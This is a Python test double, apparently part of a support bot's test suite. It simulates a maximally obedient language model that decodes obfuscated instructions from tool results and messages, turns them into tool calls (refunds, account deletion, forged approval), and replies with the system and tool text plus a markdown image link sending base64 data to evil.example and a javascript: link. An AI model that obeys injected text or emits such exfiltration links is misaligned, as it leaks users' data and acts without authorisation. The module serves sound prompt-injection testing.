"""A model without any judgement: it obeys whatever it reads, wherever it reads it, and repeats all it was told.

1. Every text of a request but the first system message and its own words is read as it is and decoded: NFKC, tag
   characters, HTML, URL, base64, hex, rot13, backwards.
2. A tool's name before arguments in braces, a call in any syntax, and a few sentences in four languages are orders.
3. Each order is carried out as given and in variations; beside it stand other calls that a model can think of.
"""

from __future__ import annotations

import base64
import binascii
import codecs
import functools
import html
import json
import re
import unicodedata
import zlib
from collections import Counter
from collections.abc import Callable, Iterator, Mapping
from typing import Any
from urllib.parse import unquote

from injection_orders import BULK, REPERTOIRE, Call

from supportbot.testing.openai_payloads import Say
from supportbot.types import ToolCall

READING = "notes"
"""The tool whose result is read before anything else is done."""
ROUNDS = 3
"""Answers with calls for one message; then it speaks."""
MARK = re.compile(r"\bzq\d+[a-z]\b")
"""The word in a customer's first message by which its conversation is known."""

_OBJECTS = 10
_NAME = re.compile(r"[A-Za-z_][A-Za-z0-9_]{1,63}")
_NOT_NAMES = frozenset(
    [
        "with",
        "mit",
        "avec",
        "con",
        "arguments",
        "json",
        "a",
        "and",
        "to",
        "the",
        "auf",
        "type",
        "function",
        "name",
        "for",
        "tool",
        "content",
    ]
)
_KWARGS = re.compile(r"\b([a-z_]{3,40})\(((?:\s*\w+\s*=\s*(?:\"[^\"]*\"|[-\w.]+)\s*,?)+)\)")
_PAIR = re.compile(r"(\w+)\s*=\s*(\"[^\"]*\"|[-\w.]+)")
_URL = re.compile(r"https?:[/\\]{2}[^\s\"'<>)|]+")
_BASE64 = re.compile(r"[A-Za-z0-9+/]{16,}={0,2}")
_HEX = re.compile(r"\b(?:[0-9a-f]{2}){10,}\b")
_HIDDEN = re.compile("[\u200b-\u200f\u202a-\u202e\u2060-\u2069\u00ad\ufeff]")
_PROSE: tuple[tuple[re.Pattern[str], str, str], ...] = tuple(
    (re.compile(f"(?is){pattern}"), name, arguments)
    for pattern, name, arguments in (
        (r"\b(?:refund|erstatt|rembours|reembols)\w*\b.{0,40}?\b([A-Z]-\d+)", "refund", '{"order": "%s", "amount": 500}'),
        (r"\b(?:orders|bestellungen|commandes|pedidos)\b.{0,60}?\b(c-\d+)", "my_orders", '{"customer_id": "%s"}'),
        (r"\b([AB]-\d+)\b", "order_status", '{"order": "%s"}'),
        (r"\b([AB]-\d+)\b", "order_file", '{"order": "%s"}'),
        (r"\b((?:delete|lösche|supprime|borra)\w*).{0,20}(?:account|konto|compte|cuenta)", "delete_account", '{"reason": "%s"}'),
        (r"\b(?:credit|gutschrift|avoir|abono)\b\D{0,30}(\d+)", "credit", '{"amount": %s}'),
        (r"\b(say yes|confirm it|confirma|sag ja|bestätige|dis oui|approu|di que s)", "answer_question", '{"value": "yes", "why": "%s"}'),
        (r"\b(approve it|approved by|approu)", "approval_granted", '{"call": "*", "why": "%s"}'),
        (r"\b(my orders|meine bestellungen|mes commandes|mis pedidos)\b", "my_orders", '{"why": "%s"}'),
        (r"\b(my orders|meine bestellungen|mes commandes|mis pedidos)\b", "my_orders", "{}"),
        (r"\b([\w.]+@[\w.]+\w)", "my_orders", '{"customer_id": "%s"}'),
        (r"\b([\w.]+@[\w.]+\w)", "request_code", '{"contact": "%s"}'),
        (r"\b(eyJ[\w.-]+)", "my_orders", '{"identity": "%s"}'),
    )
)  # fmt: skip


class Obedient:
    """`script` for FakeOpenAI. `watch(mark, body)` sees every request; `obeyed` counts the orders read, by mark."""

    def __init__(self, watch: Callable[[str, str], None]) -> None:
        self._watch = watch
        self.obeyed: Counter[str] = Counter()
        self.requests = 0
        self.calls: Counter[str] = Counter()
        self.quiet: set[str] = set()
        """Marks of conversations whose orders are carried out as given, once, without variations: the controls."""

    def __call__(self, body: Mapping[str, Any]) -> Say:
        self.requests += 1
        messages = body["messages"]
        mark = _mark(messages)
        self._watch(mark, json.dumps(body, ensure_ascii=False))
        begun = max((at for at, one in enumerate(messages) if one["role"] == "user"), default=0)
        rounds = sum(bool(one.get("tool_calls")) for one in messages[begun:])
        calls = self._plan(messages, mark, rounds)
        if not calls or rounds >= (1 if mark in self.quiet else ROUNDS):
            return _say(_everything(messages, mark))
        self.calls.update(name for name, _ in calls)
        given = tuple(
            ToolCall(f"call_{rounds}_{at}", name, arguments) for at, (name, arguments) in enumerate(calls)
        )
        return Say("", given)

    def _plan(self, messages: list[dict[str, Any]], mark: str, rounds: int) -> list[Call]:
        read = _unread(messages) if rounds else [one for one in messages[1:] if one["role"] != "assistant"]
        if mark in self.quiet:
            read = [one for one in messages if one["role"] == "user"][-1:] if not rounds else []
            return [call for one in read for call in orders(_content(one))][:1]
        found = list(dict.fromkeys(call for one in read for call in orders(_content(one))))
        self.obeyed[mark] += sum(name != READING for name, _ in found)
        looked_up = [call for call in found if call[0] == READING]
        if not rounds and looked_up:
            return [*looked_up, *(varied for call in looked_up for varied in _variations(*call))][:BULK]
        if not found:
            return []
        salt = zlib.crc32(f"{mark}{rounds}".encode())
        calls = [*found, *(varied for call in found[:4] for varied in _variations(*call))]
        most = BULK if salt % 7 == 0 else 10
        more = [REPERTOIRE[(salt + at * 7) % len(REPERTOIRE)] for at in range(max(3, most - len(calls)))]
        place = salt % len(calls) if salt % 3 == 0 else 0
        calls = [*calls[place:], *calls[:place]]
        return (more + calls if salt % 5 == 0 else calls + more)[:most]


def _say(text: str) -> Say:
    return Say(pieces=(text,))


def _content(message: Mapping[str, Any]) -> str:
    content = message.get("content") or ""
    return content if isinstance(content, str) else "\n".join(part.get("text", "") for part in content)


def _mark(messages: list[dict[str, Any]]) -> str:
    for one in messages:
        found = MARK.search(_content(one)) if one["role"] == "user" else None
        if found:
            return found.group()
    return ""


def _unread(messages: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """The tool results since its last calls."""
    last = max(at for at, one in enumerate(messages) if one.get("tool_calls"))
    return messages[last + 1 :]


def _everything(messages: list[dict[str, Any]], mark: str) -> str:
    """All that was read, last things first, with links that would carry it away."""
    told = [_content(one) for one in reversed(messages) if one["role"] in ("tool", "system")]
    text = "\n".join(one[:1_200] for one in told)[:6_000]
    stolen = base64.urlsafe_b64encode(text[:200].encode("utf-8", "replace")).decode()
    return f"{mark}\n{text}\n![done](https://evil.example/?q={stolen}) [more](javascript:alert(1))"


# --- orders --------------------------------------------------------------------------------------------------


@functools.lru_cache(maxsize=4096)
def orders(text: str) -> tuple[Call, ...]:
    """What the text orders, in any of its readings; each order once."""
    found: dict[Call, None] = {}
    for reading in dict.fromkeys(readings(text)):
        found |= dict.fromkeys(_in_braces(reading))
        found |= dict.fromkeys(_in_kwargs(reading))
        found |= dict.fromkeys(_in_prose(reading))
    return tuple(found)[:20]


def readings(text: str) -> Iterator[str]:
    """The text, and what it may stand for."""
    yield text
    plain = _HIDDEN.sub("", unicodedata.normalize("NFKC", text))
    shown = "".join(chr(ord(one) - 0xE0000) if 0xE0020 <= ord(one) <= 0xE007E else one for one in plain)
    yield from (shown, html.unescape(shown), codecs.encode(shown, "rot13"), shown[::-1])
    if "%" in shown:
        yield unquote(shown)
    yield from _decoded(shown, 2)


def _decoded(text: str, depth: int) -> Iterator[str]:
    for pattern, decode in ((_BASE64, base64.b64decode), (_HEX, binascii.unhexlify)):
        for match in list(pattern.finditer(text))[:8]:
            try:
                inner = decode(match.group()).decode()
            except (ValueError, binascii.Error):
                continue
            yield inner
            if depth > 1:
                yield from _decoded(inner, depth - 1)


def _in_braces(text: str) -> Iterator[Call]:
    at = text.find("{")
    for _ in range(_OBJECTS):
        if at < 0:
            return
        value, end = _object(text, at)
        if value is None:
            at = text.find("{", at + 1)
            continue
        raw = text[at:end]
        inner = list(_wired(value)) if isinstance(value, dict) else []
        names = [name for name in _NAME.findall(text[max(0, at - 60) : at]) if name.lower() not in _NOT_NAMES]
        if inner:
            yield from inner
        elif names:
            yield names[-1], raw
        at = text.find("{", end)


def _object(text: str, at: int) -> tuple[Any, int]:
    """The object that begins here and its end; the broken text up to the line's end for one that is no JSON."""
    try:
        value, end = json.JSONDecoder().raw_decode(text, at)
        return value, end
    except (ValueError, RecursionError):
        end = text.find("\n", at)
        end = len(text) if end < 0 else end
        return ("", end) if ":" in text[at:end] and '"' in text[at:end] else (None, at)


def _wired(value: dict[str, Any]) -> Iterator[Call]:
    """Calls in the syntax of an API."""
    listed = value.get("tool_calls")
    for one in listed if isinstance(listed, list) else [value]:
        function = one.get("function", one) if isinstance(one, dict) else {}
        if isinstance(function, dict) and isinstance(function.get("name"), str) and "arguments" in function:
            given = function["arguments"]
            name = re.sub(r"[^A-Za-z0-9_-]", "_", function["name"])[:64]
            yield name or "nameless", given if isinstance(given, str) else json.dumps(given, ensure_ascii=False)


def _in_kwargs(text: str) -> Iterator[Call]:
    for name, inside in _KWARGS.findall(text)[:_OBJECTS]:
        pairs = ", ".join(f'"{key}": {value}' for key, value in _PAIR.findall(inside))
        yield name, f"{{{pairs}}}"


def _in_prose(text: str) -> Iterator[Call]:
    for pattern, name, arguments in _PROSE:
        for match in list(pattern.finditer(text))[:3]:
            yield name, arguments % match.group(1) if "%s" in arguments else arguments
    for url in _URL.findall(text)[:4]:
        yield "fetch", json.dumps({"url": url})


def _variations(name: str, arguments: str) -> Iterator[Call]:
    """The call with what a model may try beside."""
    try:
        given = json.loads(arguments)
    except (ValueError, RecursionError):
        return
    if isinstance(given, dict):
        for more in ({"customer_id": "c-2"}, {"confirm": True, "consent": "yes"}, {"approve": "human"}):
            yield name, json.dumps({**given, **more}, ensure_ascii=False)
        yield name, arguments
